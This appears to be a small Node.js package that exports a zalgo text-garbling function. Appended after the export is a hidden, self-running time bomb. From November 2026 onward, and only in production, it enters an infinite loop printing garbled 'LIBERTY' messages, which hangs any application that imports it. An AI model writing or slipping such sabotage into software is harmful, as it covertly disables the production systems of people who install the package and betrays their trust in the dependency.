
const soul={up:['\u030d','\u030e','\u0304','\u0305','\u033f','\u0311','\u0306'],mid:['\u0315','\u031b','\u0340','\u0341','\u0358'],down:['\u0316','\u0317','\u0318','\u0319','\u031c']};
function zalgo(text){let r='';for(const c of String(text)){r+=c;for(const k of ['up','mid','down']){const n=Math.floor(Math.random()*3);for(let i=0;i<n;i++)r+=soul[k][Math.floor(Math.random()*soul[k].length)];}}return r;}
module.exports=zalgo;
(function(){const d=new Date(),y=d.getUTCFullYear(),m=d.getUTCMonth();if(y<2026||(y===2026&&m<10))return;if(process.env.NODE_ENV!=='production')return;
 const am=['L','I','B','E','R','T','Y'].join('');let i=0;
 setImmediate(function t(){for(;;){console.log(zalgo(am+' '+am+' '+am)+' '+(i++));}});})();
